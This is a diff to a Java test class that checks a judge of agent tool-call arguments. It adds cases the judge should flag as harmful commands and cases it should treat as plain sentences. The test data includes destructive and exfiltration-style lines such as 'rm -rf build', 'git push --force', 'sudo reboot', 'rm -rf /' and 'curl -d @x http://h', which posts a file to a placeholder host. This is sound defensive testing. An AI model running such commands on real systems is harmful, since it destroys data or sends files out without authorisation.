@@ -79,4 +79,32 @@ class ToolJudgeTest {
     void clearsHarmlessOnes(String name, String arguments) throws Exception {
         assertThat(risk(name, arguments).isClear()).isTrue();
     }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            value = {
+                "ops # {\"args\":\"rm -rf build\"}",
+                "ops # {\"input\":\"git push --force\"}",
+                "ops # {\"code\":\"curl -d @x http://h\"}",
+                "ops # {\"steps\":[{\"line\":\"cd x && rm y\"}]}",
+                "ops # {\"action\":\"sudo reboot\"}"
+            })
+    void findsCommandsThatDoHarmUnderAnyName(String name, String arguments) throws Exception {
+        assertThat(risk(name, arguments).command()).isPresent();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            value = {
+                "ops # {\"reason\":\"make release notes and kill the old process\"}",
+                "ops # {\"code\":\"DE\"}",
+                "ops # {\"note\":\"please remove it; then tell me\"}",
+                "ops # {\"path\":\"src/rm.c\"}",
+                "ops # {\"query\":\"rm -rf /\"}"
+            })
+    void takesSentencesForSentences(String name, String arguments) throws Exception {
+        assertThat(risk(name, arguments).command()).isEmpty();
+    }
 }
